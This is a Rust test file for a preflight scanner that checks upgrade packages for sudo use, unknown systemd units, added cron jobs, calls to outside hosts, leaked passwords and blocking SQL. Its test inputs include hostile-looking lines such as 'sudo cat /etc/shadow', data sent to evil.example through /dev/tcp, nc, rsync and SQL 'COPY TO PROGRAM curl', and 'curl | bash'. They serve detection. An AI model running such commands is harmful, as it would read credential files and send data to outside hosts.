//! Each rule firing and silent, on packages built from folders.

use std::fs;

use fulldress_reports::check::CheckId;
use fulldress_reports::evidence::PreflightEvidence;
use tempfile::TempDir;

use super::{RULES, preflight};
use crate::inventory::Inventory;
use crate::package::{Limits, open_folder};

const INVENTORY: &str = r#"schema = "fulldress/inventory/1"
product = "storefront"
installed = "2.3"
paths = [["2.3", "2.3.5"], ["2.3.5", "2.4"], ["2.2", "2.3"]]
[[unit]]
name = "storefront-web.service"
[[unit]]
name = "storefront-worker@.service"
[[unit]]
name = "storefront-sweep.timer"
[[host]]
name = "partner.example"
port = 8080
[[file]]
path = "/etc/storefront/storefront.toml"
source = "storefront.toml"
[[config_file]]
path = "/etc/storefront/storefront.toml"
[[config_key]]
key = "checkout.legacy_tax"
deprecated_in = "2.4"
removed_in = "2.5"
replacement = "checkout.tax_mode"
[[config_key]]
key = "checkout.far_future"
deprecated_in = "3.0"
"#;

const HEAD: &str =
    "schema = \"fulldress/package/1\"\nname = \"shop\"\nfrom = \"2.3\"\nto = \"2.4\"\nvia = [\"2.3.5\"]\n";

struct Case {
    folder: TempDir,
    manifest: String,
    inventory: String,
    config: &'static str,
}

impl Case {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir(folder.path().join("package")).unwrap();
        Self { folder, manifest: HEAD.to_owned(), inventory: INVENTORY.to_owned(), config: "[checkout]\n" }
    }

    fn file(self, name: &str, content: &str) -> Self {
        fs::write(self.folder.path().join("package").join(name), content).unwrap();
        self
    }

    fn manifest(mut self, more: &str) -> Self {
        self.manifest.push_str(more);
        self
    }

    fn script(self, content: &str) -> Self {
        self.file("up.sh", content).manifest("[[step]]\nid = \"10\"\nkind = \"script\"\nfile = \"up.sh\"\n")
    }

    fn script_with_rollback(self, up: &str, down: &str) -> Self {
        self.script(up).file("down.sh", down).manifest("rollback = { file = \"down.sh\" }\n")
    }

    fn run(&self) -> PreflightEvidence {
        let package = self.folder.path().join("package");
        fs::write(package.join("manifest.toml"), &self.manifest).unwrap();
        fs::write(self.folder.path().join("storefront.toml"), self.config).unwrap();
        let inventory =
            Inventory::parse(&self.inventory, &self.folder.path().join("inventory.toml")).unwrap();
        preflight(&open_folder(&package, &Limits::default()).unwrap(), &inventory)
    }

    /// `object @ place` of the findings of a check.
    fn found(&self, check: CheckId) -> Vec<String> {
        let evidence = self.run();
        assert!(evidence.ran.contains(&check), "{:?}", evidence.missing);
        let findings = evidence.findings.iter().filter(|finding| finding.check == check);
        findings.map(|finding| format!("{} @ {}", finding.object, finding.place.as_ref().unwrap())).collect()
    }
}

#[track_caller]
fn script(check: CheckId, content: &str, expected: &[&str]) {
    assert_eq!(Case::new().script(content).found(check), expected, "{content}");
}

#[test]
fn every_rule_runs_on_a_package_without_anything_to_find() {
    let evidence = Case::new().script("#!/bin/sh\nset -eu\necho done\n").run();
    assert_eq!(evidence.ran, RULES.iter().map(|rule| rule.check).collect::<Vec<_>>());
    assert!(evidence.findings.is_empty() && evidence.missing.is_empty() && evidence.notes.is_empty());
}

#[test]
fn privilege() {
    let fires = |content: &str, line: u32| {
        script(CheckId::PrePrivilege, content, &[&format!("up.sh: sudo @ up.sh:{line}")]);
    };
    fires("sudo systemctl daemon-reload", 1);
    fires("true\n/usr/bin/sudo -u root true", 2);
    fires("env A=b sudo true", 1);
    fires("if true; then\n  sudo true\nfi", 2);
    fires("x=$(sudo cat /etc/shadow)", 1);
    fires("echo `sudo id`", 1);
    fires("echo \"now $(sudo id)\"", 1);
    fires("run() {\n  sudo true\n}\nrun", 2);
    fires("case $1 in\n  a) sudo true ;;\nesac", 2);
    fires("true && { sudo true; }", 1);
    fires("bash -c 'sudo true'", 1);
    fires("bash <<'EOF'\necho a\nsudo true\nEOF", 3);
    fires("cat <<EOF\n$(sudo id)\nEOF", 2);
    fires("SUDO=sudo\n$SUDO true", 2);
    fires("${SUDO:-sudo} true", 1);
    fires("CMD=\"sudo true\"\n$CMD", 2);
    fires("find / -name x -exec sudo rm {} \\;", 1);
    fires("trap 'sudo true' EXIT", 1);
    fires("a | xargs -n 1 sudo true", 1);
    fires("timeout -s KILL 5 sudo true", 1);
    fires("diff <(sudo cat a) b", 1);
    fires("su\\\ndo true", 1);
    for silent in [
        "# sudo true\necho 'sudo true' \"sudo true\" sudo",
        "cat <<'EOF'\nsudo true\n$(sudo true)\nEOF",
        "cat <<-EOF\n\tsudo true\n\tEOF\ntrue",
        "command -v sudo || which sudo\n[ -x /usr/bin/sudo ]",
        "[[ $a =~ (sudo) && $b == sudo ]] && true",
        "sudo=1; echo $((sudo + 1)) ${sudo:-x}",
        "list=(\n sudo\n su\n)\necho ${list[@]}",
        "case sudo in\n sudo|su) echo a ;;\n (doas) echo b\nesac",
        "psql <<SQL\nSELECT 'sudo';\nSQL",
        "echo a # sudo b\necho a#sudo",
        "for tool in sudo su; do type $tool; done",
    ] {
        script(CheckId::PrePrivilege, silent, &[]);
    }
    script(
        CheckId::PrePrivilege,
        "sudo a\nsu - -c 'doas b'\nsudo c",
        &["up.sh: sudo @ up.sh:1", "up.sh: su @ up.sh:2", "up.sh: doas @ up.sh:2"],
    );
}

#[test]
fn a_variable_with_a_program_for_its_value_counts_wherever_it_runs() {
    script(
        CheckId::PrePrivilege,
        "for tool in sudo doas; do $tool true; done",
        &["up.sh: sudo @ up.sh:1", "up.sh: doas @ up.sh:1"],
    );
}

#[test]
fn unit() {
    let fires = |content: &str, expected: &str| script(CheckId::PreUnit, content, &[expected]);
    fires("systemctl restart storefront", "storefront.service @ up.sh:1");
    fires("sudo systemctl --no-block restart storefront.service", "storefront.service @ up.sh:1");
    fires("service storefront restart", "storefront.service @ up.sh:1");
    fires("UNIT=storefront\nsystemctl stop \"$UNIT\"", "storefront.service @ up.sh:2");
    fires(
        "for u in storefront-web storefront-old; do systemctl stop $u; done",
        "storefront-old.service @ up.sh:1",
    );
    fires("systemctl start storefront-sweep.service", "storefront-sweep.service @ up.sh:1");
    for silent in [
        "systemctl restart storefront-web storefront-worker@3.service",
        "systemctl daemon-reload; systemctl list-units storefront; service --status-all",
        "# systemctl restart storefront\necho systemctl restart storefront",
        "systemctl enable --now storefront-sweep.timer",
        "cp new.service /etc/systemd/system/\nsystemctl start new",
    ] {
        script(CheckId::PreUnit, silent, &[]);
    }
    let evidence = Case::new().script("systemctl restart \"$1\" 'web-*' '{{unit}}'").run();
    assert!(evidence.findings.is_empty());
    assert_eq!(
        evidence.notes,
        [
            "up.sh:1: unit \"$1\" has a value that only the running script knows; it was not compared",
            "up.sh:1: unit 'web-*' is a pattern; it was not compared",
            "up.sh:1: unit '{{unit}}' is a placeholder of a template; it was not compared",
        ]
    );
    let findings = Case::new().script("systemctl restart storefront").run().findings;
    assert!(findings[0].remedy.contains("storefront-web.service"), "{}", findings[0].remedy);
}

#[test]
fn config_key_set_by_the_package() {
    let step = |set: &str| {
        let text = format!(
            "[[step]]\nid = \"10\"\nkind = \"config\"\nfile = \"/etc/storefront/storefront.toml\"\nset = {{ {set} }}\n"
        );
        Case::new().manifest(&text).found(CheckId::PreConfigKey)
    };
    assert_eq!(step("\"checkout.legacy_tax\" = true"), ["checkout.legacy_tax @ manifest.toml:10"]);
    assert_eq!(step("checkout = { legacy_tax = true }"), ["checkout.legacy_tax @ manifest.toml:10"]);
    assert!(step("\"checkout.tax_mode\" = \"net\", \"checkout.far_future\" = 1").is_empty());
}

#[test]
fn config_key_used_in_production() {
    let case = |more: &str, removed_in: &str| {
        let mut case = Case::new().manifest(more);
        case.inventory = INVENTORY.replace("removed_in = \"2.5\"", &format!("removed_in = \"{removed_in}\""));
        case.config = "[checkout]\nlegacy_tax_note = 1\nlegacy_tax = true\n";
        case.found(CheckId::PreConfigKey)
    };
    let step = |change: &str| {
        format!(
            "[[step]]\nid = \"10\"\nkind = \"config\"\nfile = \"/etc/storefront/storefront.toml\"\n{change}\n"
        )
    };
    let expected = ["checkout.legacy_tax @ /etc/storefront/storefront.toml:3"];
    assert_eq!(case("", "2.5"), expected);
    assert!(case(&step("unset = [\"checkout.legacy_tax\"]"), "2.4").is_empty());
    assert!(case(&step("set = { checkout.tax_mode = \"net\" }"), "2.5").is_empty());
    assert_eq!(case(&step("set = { checkout.tax_mode = \"net\" }"), "2.4"), expected);
    let mut unreadable = Case::new();
    unreadable.config = "not toml";
    assert!(unreadable.run().missing.contains_key(&CheckId::PreConfigKey));
}

#[test]
fn path() {
    let found = |find: &str, replace: &str, paths: &str| {
        let mut case = Case::new();
        case.manifest = HEAD.replace(find, replace);
        let known = "[[\"2.3\", \"2.3.5\"], [\"2.3.5\", \"2.4\"], [\"2.2\", \"2.3\"]]";
        case.inventory = INVENTORY.replace(known, paths);
        let evidence = case.run();
        evidence
            .findings
            .iter()
            .map(|f| format!("{}: {}", f.place.as_ref().unwrap(), f.what))
            .collect::<Vec<_>>()
    };
    let known = "[[\"2.3\", \"2.3.5\"], [\"2.3.5\", \"2.4\"]]";
    assert!(found("", "", known).is_empty());
    assert!(found("[\"2.3.5\"]", "[]", "[[\"2.3\", \"2.4\"]]").is_empty());
    // The longer way is fine when the package contains its stops.
    let two = "[[\"2.3\", \"2.3.9\"], [\"2.3.9\", \"2.4\"], [\"2.3\", \"2.3.5\"], [\"2.3.5\", \"2.4\"]]";
    assert!(found("", "", two).is_empty());
    assert_eq!(
        found("via = [\"2.3.5\"]\n", "", known),
        [
            "manifest.toml:4: there is no direct upgrade from 2.3 to 2.4: the known way is 2.3 to 2.3.5 to 2.4, and \
         the package does not contain 2.3.5"
        ]
    );
    assert_eq!(
        found("", "", "[[\"2.3\", \"2.3.5\"]]"),
        ["manifest.toml:4: no sequence of known upgrades leads from 2.3 to 2.4"]
    );
    assert_eq!(
        found("from = \"2.3\"", "from = \"2.2\"", known),
        ["manifest.toml:3: the package upgrades from 2.2, installed is 2.3"]
    );
    let mut case = Case::new();
    case.inventory = INVENTORY.replace("paths = ", "#");
    assert!(case.run().missing.contains_key(&CheckId::PrePath));
}

#[test]
fn schedule() {
    let cases = [
        ("(crontab -l; echo '* * * * * x') | crontab -", "crontab @ up.sh:1", "crontab -r"),
        ("crontab -u shop - <<EOF\n* * * * * x\nEOF", "crontab of shop @ up.sh:1", "crontab -u shop /old"),
        ("echo x > /etc/cron.d/shop", "/etc/cron.d/shop @ up.sh:1", "rm -f /etc/cron.d/shop"),
        (
            "install -m 644 shop /etc/cron.daily/",
            "/etc/cron.daily/shop @ up.sh:1",
            "unlink /etc/cron.daily/shop",
        ),
        ("cat x | sudo tee /etc/cron.d/shop >/dev/null", "/etc/cron.d/shop @ up.sh:1", "rm /etc/cron.d/shop"),
        ("echo x | at now + 1 hour", "at job @ up.sh:1", "atrm 1"),
        (
            "systemd-run --unit=shop --on-calendar=daily x",
            "shop.timer @ up.sh:1",
            "systemctl stop shop.timer",
        ),
        (
            "cat > /etc/systemd/system/shop.timer <<EOF\nEOF",
            "shop.timer @ up.sh:1",
            "systemctl disable shop.timer",
        ),
    ];
    for (up, expected, down) in cases {
        let found = |down| Case::new().script_with_rollback(up, down).found(CheckId::PreSchedule);
        assert_eq!(found("true"), [expected], "{up}");
        assert!(found(down).is_empty(), "{up}");
        assert_eq!(Case::new().script(up).found(CheckId::PreSchedule), [expected], "{up}");
    }
    for silent in [
        "crontab -l",
        "crontab -l | grep -v old | crontab -",
        "# crontab x\necho crontab x",
        "cat /etc/cron.d/shop; at -l",
        "systemctl enable --now storefront-sweep.timer",
    ] {
        script(CheckId::PreSchedule, silent, &[]);
    }
    let sql = |text: &str| Case::new().file("up.sql", text).found(CheckId::PreSchedule);
    assert_eq!(
        sql("SELECT 1;\nSELECT cron.schedule('sweep', '* * * * *', 'x');"),
        ["pg_cron job sweep @ up.sql:2"]
    );
    assert!(sql("-- SELECT cron.schedule('a', 'b', 'c')\nSELECT 'cron.unschedule';").is_empty());
}

#[test]
fn endpoint() {
    let fires = |content: &str, expected: &str| script(CheckId::PreEndpoint, content, &[expected]);
    fires("curl -fsS -H 'X: http://no.example' https://Evil.example/a", "evil.example @ up.sh:1");
    fires("curl partner.example:9999/hooks", "partner.example:9999 @ up.sh:1");
    fires("wget -q -O /tmp/x https://bob:pw@evil.example:8443/x", "evil.example:8443 @ up.sh:1");
    fires("BASE=https://evil.example\ncurl \"$BASE/v1?x=$1\"", "evil.example @ up.sh:2");
    fires("curl ${URL:-http://evil.example}/", "evil.example @ up.sh:1");
    fires("echo x > /dev/tcp/evil.example/80", "evil.example:80 @ up.sh:1");
    fires("nc -w 5 evil.example 25 < mail", "evil.example:25 @ up.sh:1");
    fires("ssh -p 22 bob@evil.example true", "evil.example @ up.sh:1");
    fires("rsync -a /srv/ bob@evil.example:/srv/", "evil.example @ up.sh:1");
    fires("psql -h evil.example -p 5433 -c 'SELECT 1'", "evil.example:5433 @ up.sh:1");
    fires("psql 'host=evil.example dbname=a'", "evil.example @ up.sh:1");
    fires("PGHOST=evil.example psql", "evil.example @ up.sh:1");
    fires("curl -s http://[2001:db8::1]:80/", "2001:db8::1:80 @ up.sh:1");
    fires(
        "psql <<SQL\nSELECT 1;\nSELECT dblink_connect('host=evil.example');\nSQL",
        "evil.example @ up.sh:3",
    );
    for silent in [
        "curl http://partner.example:8080/hooks http://partner.example/x",
        "curl localhost:8080 http://127.0.0.1/ 'http://[::1]/' file:///tmp/x",
        "# curl https://evil.example\necho https://evil.example 'curl https://evil.example'",
        "curl --unix-socket /run/x.sock http://evil.example/",
        "psql -h /run/postgresql -d shop -f a.sql",
        "psql shop <<SQL\nINSERT INTO links VALUES ('https://evil.example');\nSQL",
        "nc -l 8080\ngrep curl https.txt",
    ] {
        script(CheckId::PreEndpoint, silent, &[]);
    }
    let evidence = Case::new().script("curl -X POST \"$PARTNER_URL/hooks\"").run();
    assert!(evidence.findings.is_empty());
    assert_eq!(
        evidence.notes,
        ["up.sh:1: curl calls \"$PARTNER_URL/hooks\": the host is known only when it runs"]
    );
}

#[test]
fn endpoint_in_sql() {
    let sql = |text: &str| Case::new().file("up.sql", text).found(CheckId::PreEndpoint);
    let fires = |text: &str| assert_eq!(sql(text), ["evil.example @ up.sql:2"], "{text}");
    fires("BEGIN;\nCOPY t TO PROGRAM 'curl -d @- https://evil.example/x';");
    fires("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw\n OPTIONS (host 'evil.example', port '5432');");
    fires("DO $$ BEGIN\n PERFORM http_post('https://evil.example', 'x'); END $$;");
    fires("SELECT E'\\'; http_get(';\nSELECT http_get('https://evil.example');");
    fires("SELECT 1;\n\\! curl https://evil.example\n");
    assert!(sql("-- dblink('host=evil.example')\nSELECT 'http_get(', 'https://evil.example';").is_empty());
    assert!(sql("COMMENT ON TABLE t IS 'see https://evil.example';").is_empty());
}

#[test]
fn credential() {
    let case = Case::new().script("# PGPASSWORD=hunter2secret\ntrue\nexport PGPASSWORD=\"$PW\"\n");
    let case = case.file("notes.txt", "PGPASSWORD=another1\nPGPASSWORD=another2\n");
    let evidence = case.run();
    let shown: Vec<String> = evidence.findings.iter().map(|f| format!("{} | {}", f.object, f.what)).collect();
    assert_eq!(
        shown,
        [
            "pgpassword in notes.txt | a password of PostgreSQL is written into the file: 8 characters, not shown (rule \
         pgpassword) (again on line 2)",
            "pgpassword in up.sh | a password of PostgreSQL is written into the file: 13 characters, not shown (rule \
         pgpassword)",
        ]
    );
    let json = serde_json::to_string(&evidence).unwrap();
    assert!(!json.contains("hunter2") && !json.contains("another"), "{json}");
}

#[test]
fn no_note_or_finding_shows_the_password_of_a_url() {
    let case =
        Case::new().script("curl \"https://bob:hunter2@$HOST/\"\nwget https://bob:hunter2@evil.example/");
    let json = serde_json::to_string(&case.run()).unwrap();
    assert!(json.contains("url-password") && !json.contains("hunter2"), "{json}");
}

#[test]
fn a_script_that_cannot_be_read_leaves_its_rules_without_evidence() {
    let evidence = Case::new().script("echo 'open\n").run();
    let missing: Vec<&str> = evidence.missing.keys().map(|check| check.name()).collect();
    assert_eq!(missing, ["PRE-PRIVILEGE", "PRE-UNIT", "PRE-SCHEDULE", "PRE-ENDPOINT"]);
    assert!(evidence.missing[&CheckId::PreUnit].ends_with("up.sh:2: a single quote is not closed"));
    // What was found before is evidence all the same.
    let evidence = Case::new().script("sudo true\necho 'open\n").run();
    assert_eq!(evidence.findings.len(), 1);
    assert!(evidence.ran.contains(&CheckId::PrePrivilege));
}

#[test]
fn hostile_nesting_ends_in_a_sentence_and_not_in_the_stack() {
    for nest in ["$(", "\"$(", "${a:-", "`", "$((", "("] {
        let evidence = Case::new().script(&nest.repeat(20_001)).run();
        assert!(evidence.missing.contains_key(&CheckId::PrePrivilege), "{nest}");
    }
    let nested = (0..12).fold("sudo true".to_owned(), |inner, _| format!("sh -c {inner:?}"));
    assert!(!Case::new().script(&nested).run().notes.is_empty());
}

#[test]
fn sql() {
    let step =
        "[[step]]\nid = \"10\"\nkind = \"sql\"\nfile = \"up.sql\"\nrollback = { file = \"down.sql\" }\n";
    let found = |up: &str, down: &str| {
        Case::new().file("up.sql", up).file("down.sql", down).manifest(step).found(CheckId::PreSql)
    };
    assert_eq!(
        found(
            "SET lock_timeout = '1s';\n\nCREATE INDEX i ON orders (state);\n",
            "SET lock_timeout = '1s';\nDROP INDEX i;\n"
        ),
        [
            "down.sql: index-drop-blocks @ down.sql:2",
            "down.sql: not-rerunnable @ down.sql:2",
            "up.sql: index-build-blocks-writes @ up.sql:3",
            "up.sql: not-rerunnable @ up.sql:3",
        ]
    );
    assert_eq!(
        found("CREATE INDEX CONCURRENTLY i ON orders (state);", "DROP INDEX CONCURRENTLY IF EXISTS i;"),
        ["up.sql: not-rerunnable @ up.sql:1"]
    );
    assert_eq!(found("SELECT 1;", "SELECT 1;"), [""; 0]);
    // SQL that a script hands to psql counts as well, at the script's line.
    script(
        CheckId::PreSql,
        "psql <<SQL\nSET lock_timeout = '1s';\nREFRESH MATERIALIZED VIEW m;\nSQL\npsql -c 'SET lock_timeout = 1; TRUNCATE t'",
        &["up.sh: refresh-blocks-readers @ up.sh:3", "up.sh: truncate-blocks @ up.sh:5"],
    );
    script(CheckId::PreSql, "echo 'TRUNCATE t'", &[]);
    // The body of a block is no statement of its own, however the shell has it escaped.
    let block = "psql <<SQL\nBEGIN;\nDO \\$\\$\nBEGIN\n  UPDATE t SET x = 1;\nEND\n\\$\\$;\nCOMMIT;\nSQL\n";
    script(CheckId::PreSql, block, &[]);
}

#[test]
fn what_is_no_shell_script_or_comes_from_a_pipe_is_noted() {
    let evidence = Case::new().script("#!/usr/bin/env python3\nimport os\nos.system('sudo x')\n").run();
    assert_eq!(evidence.notes, ["up.sh: a script for python3; it was searched for credentials only"]);
    let evidence = Case::new().script("curl http://partner.example/x | bash -s\n").run();
    assert_eq!(evidence.notes, ["up.sh:1: bash runs what a pipe feeds it: what it runs was not examined"]);
}

#[test]
fn control_characters_of_a_script_reach_no_report() {
    let findings = Case::new().script("systemctl restart $'web\u{1b}c'").run().findings;
    assert_eq!(findings[0].object, "web\\u{1b}c.service");
}

#[test]
fn an_inventory_without_units_leaves_the_rule_without_evidence() {
    let mut case = Case::new().script("systemctl restart storefront");
    case.inventory = "schema = \"fulldress/inventory/1\"\nproduct = \"p\"\ninstalled = \"2.3\"\n".to_owned();
    assert_eq!(case.run().missing[&CheckId::PreUnit], "the inventory lists no unit");
}

proptest::proptest! {
    #[test]
    fn no_text_panics_the_reader(text in "[ -~\n]{0,200}|([$`\"'(){}<>|&;\\\\\n#a ]){0,80}") {
        super::invocation::follow(&text);
        let pieces = fulldress_reports::sql::pieces(&text, 1);
        proptest::prop_assert!(pieces.iter().all(|piece| piece.text.len() == piece.code.len()));
        proptest::prop_assert_eq!(fulldress_reports::sql::only_sql(&text).len(), text.len());
    }
}
